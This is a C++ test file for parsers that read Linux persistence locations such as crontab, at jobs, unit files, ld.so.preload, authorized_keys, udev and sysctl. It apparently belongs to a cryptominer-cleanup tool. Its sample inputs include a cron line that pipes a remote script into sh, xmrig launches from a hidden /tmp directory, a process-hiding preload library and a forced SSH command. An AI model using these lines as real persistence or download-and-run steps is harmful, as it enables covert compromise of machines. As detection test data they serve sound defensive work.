// Table-driven tests of the persistence parsers, on literals.
#include <doctest/doctest.h>

#include "persist/at_jobs.h"
#include "persist/cron.h"
#include "persist/hosts_file.h"
#include "persist/ini.h"
#include "persist/init_scripts.h"
#include "persist/ld_preload.h"
#include "persist/ssh_keys.h"
#include "persist/sysctl.h"
#include "persist/udev.h"

using namespace unmine;

TEST_CASE("crontab lines: system, user and anacron formats") {
  struct Row {
    std::string text;
    CronFormat format;
    size_t entries;
    bool env, malformed;
    std::string schedule, user, command;
  };
  const Row rows[] = {
      {"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", CronFormat::system, 1, false, false,
       "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"},
      {"@reboot root /tmp/.x/xmrig -B", CronFormat::system, 1, false, false, "@reboot", "root", "/tmp/.x/xmrig -B"},
      {"*/5 * * * * curl -s http://x/a.sh | sh", CronFormat::user, 1, false, false, "*/5 * * * *", "",
       "curl -s http://x/a.sh | sh"},
      {"SHELL=/bin/sh", CronFormat::system, 1, true, false, "", "", "SHELL=/bin/sh"},
      {"PATH = /tmp/.x:/usr/bin", CronFormat::user, 1, true, false, "", "", "PATH = /tmp/.x:/usr/bin"},
      {"# m h dom mon dow user command", CronFormat::system, 0, false, false, "", "", ""},
      {"", CronFormat::system, 0, false, false, "", "", ""},
      {"this is not cron", CronFormat::system, 1, false, true, "", "", "this is not cron"},
      {"* * * *", CronFormat::user, 1, false, true, "", "", "* * * *"},
      {"@bogus /bin/true", CronFormat::user, 1, false, true, "", "", "@bogus /bin/true"},
      {"1\t5\tcron.daily\trun-parts --report /etc/cron.daily", CronFormat::anacron, 1, false, false, "1 5 cron.daily",
       "", "run-parts --report /etc/cron.daily"},
      {"@monthly 15 cron.monthly run-parts /etc/cron.monthly", CronFormat::anacron, 1, false, false,
       "@monthly 15 cron.monthly", "", "run-parts /etc/cron.monthly"},
      {"0 0 * * * root", CronFormat::system, 1, false, true, "", "", "0 0 * * * root"},
  };
  for (auto& r : rows) {
    CAPTURE(r.text);
    auto p = parse_crontab(r.text, r.format);
    REQUIRE(p.entries.size() == r.entries);
    if (!r.entries) continue;
    auto& e = p.entries[0];
    CHECK((e.type == CronEntry::Type::env) == r.env);
    CHECK(e.malformed == r.malformed);
    CHECK(p.anomalies.size() == (r.malformed ? 1u : 0u));
    if (!r.malformed && !r.env) {
      CHECK(e.schedule == r.schedule);
      CHECK(e.user == r.user);
    }
    CHECK(e.command == r.command);
  }
}

TEST_CASE("crontab line numbers count comments, blanks and CRLF lines") {
  auto p = parse_crontab("# c\r\n\r\n* * * * * a\r\n\n@reboot b\n", CronFormat::user);
  REQUIRE(p.entries.size() == 2);
  CHECK(p.entries[0].line == 3);
  CHECK(p.entries[0].command == "a");
  CHECK(p.entries[1].line == 5);
}

TEST_CASE("at jobs: uid, environment and commands") {
  const char* job =
      "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nPATH=/usr/bin:/bin; export PATH\n"
      "cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
      "${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'\n/tmp/.x/xmrig -B\nmarcinDELIMITER0a1b2c3d\n";
  auto j = parse_at_job(job);
  REQUIRE(j.uid);
  CHECK(*j.uid == 1000);
  CHECK(j.anomalies.empty());
  REQUIRE(j.lines.size() == 3);
  CHECK(j.lines[0].text == "umask 22");
  CHECK_FALSE(j.lines[0].command);
  CHECK(j.lines[2].text == "/tmp/.x/xmrig -B");
  CHECK(j.lines[2].command);
  CHECK(j.lines[2].line == 11);

  auto odd = parse_at_job("echo hi\n");
  CHECK(odd.anomalies.size() == 1);
  REQUIRE(odd.lines.size() == 1);
  CHECK(odd.lines[0].command);
}

TEST_CASE("unit and desktop files: sections, continuations, anomalies") {
  auto p = parse_ini(
      "# c\n[Unit]\nDescription=x\n\n[Service]\nExecStart=/bin/sh -c \\\n  \"/tmp/.x/xmrig\"\n; note\n"
      "Environment=A=1\nbroken line\n");
  REQUIRE(p.entries.size() == 3);
  CHECK(p.entries[0].section == "Unit");
  CHECK(p.entries[1].key == "ExecStart");
  CHECK(p.entries[1].value == "/bin/sh -c \"/tmp/.x/xmrig\"");
  CHECK(p.entries[1].line == 6);
  CHECK(p.entries[2].key == "Environment");
  CHECK(p.entries[2].value == "A=1");
  REQUIRE(p.anomalies.size() == 1);
  CHECK(p.anomalies[0] == LineAnomaly{10, "not a key=value line"});
  auto q = parse_ini("Exec=foo\n[Desktop Entry\n");
  CHECK(q.anomalies.size() == 2);
}

TEST_CASE("ld.so.preload entries split on whitespace and colons") {
  auto e = parse_ld_so_preload("/usr/local/lib/libprocesshider.so\n\n/lib/a.so:/lib/b.so  /lib/c.so\n");
  REQUIRE(e.size() == 4);
  CHECK(e[0].entry == "/usr/local/lib/libprocesshider.so");
  CHECK(e[0].line == 1);
  CHECK(e[2].entry == "/lib/b.so");
  CHECK(e[3].line == 3);
  CHECK(e[3].text == "/lib/a.so:/lib/b.so  /lib/c.so");
}

TEST_CASE("authorized_keys: options, forced commands, malformed lines") {
  struct Row {
    std::string text;
    std::string type;
    std::optional<std::string> command;
    std::string comment;
    size_t anomalies;
  };
  const Row rows[] = {
      {"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG alice@laptop", "ssh-ed25519", std::nullopt, "alice@laptop", 0},
      {"command=\"/tmp/.x/xmrig -B; echo \\\"hi\\\"\",no-pty ssh-rsa AAAAB3 x@y", "ssh-rsa",
       "/tmp/.x/xmrig -B; echo \"hi\"", "x@y", 0},
      {"from=\"10.0.0.0/8\" ecdsa-sha2-nistp256 AAAAE2 ", "ecdsa-sha2-nistp256", std::nullopt, "", 0},
      {"command=\"unterminated ssh-rsa AAAA", "", "unterminated ssh-rsa AAAA", "", 2},
      {"garbage", "", std::nullopt, "", 1},
  };
  for (auto& r : rows) {
    CAPTURE(r.text);
    auto p = parse_authorized_keys(r.text);
    REQUIRE(p.keys.size() == 1);
    CHECK(p.keys[0].type == r.type);
    CHECK(p.keys[0].command == r.command);
    CHECK(p.keys[0].comment == r.comment);
    CHECK(p.anomalies.size() == r.anomalies);
  }
}

TEST_CASE("script lines skip comments, blanks and exit 0") {
  auto l = script_lines("#!/bin/sh -e\n# rc.local\n\n/tmp/.x/xmrig &\nexit 0\n");
  REQUIRE(l.size() == 1);
  CHECK(l[0].line == 4);
  CHECK(l[0].text == "/tmp/.x/xmrig &");
}

TEST_CASE("udev rules: RUN, PROGRAM and IMPORT commands") {
  auto p = parse_udev_rules(
      "# c\nACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/tmp/.x/run.sh\"\n"
      "KERNEL==\"sd*\", PROGRAM=\"/bin/id\", IMPORT{program}=\"/lib/udev/x\", ENV{A}=\"1\"\nRUN+=\"unterminated\n"
      "nonsense here\n");
  REQUIRE(p.commands.size() == 3);
  CHECK(p.commands[0].key == "RUN");
  CHECK(p.commands[0].value == "/tmp/.x/run.sh");
  CHECK(p.commands[0].line == 2);
  CHECK(p.commands[2].key == "IMPORT");
  CHECK(p.anomalies.size() == 2);
}

TEST_CASE("sysctl settings: dots or slashes, ignored-error prefix") {
  auto p = parse_sysctl_conf("# c\nvm.nr_hugepages = 1280\n-vm/nr_overcommit_hugepages=8\n; x\nnonsense\n");
  REQUIRE(p.settings.size() == 2);
  CHECK(p.settings[0].key == "vm.nr_hugepages");
  CHECK(p.settings[0].value == "1280");
  CHECK(p.settings[1].key == "vm.nr_overcommit_hugepages");
  CHECK(p.settings[1].line == 3);
  CHECK(p.anomalies.size() == 1);
}

TEST_CASE("sysctl: a '-' before a spaced key still names the key (validate and persistence share this parser)") {
  auto p = parse_sysctl_conf("- kernel.nmi_watchdog = 0\n");
  REQUIRE(p.settings.size() == 1);
  CHECK(p.settings[0].key == "kernel.nmi_watchdog");
  CHECK(p.settings[0].value == "0");
}
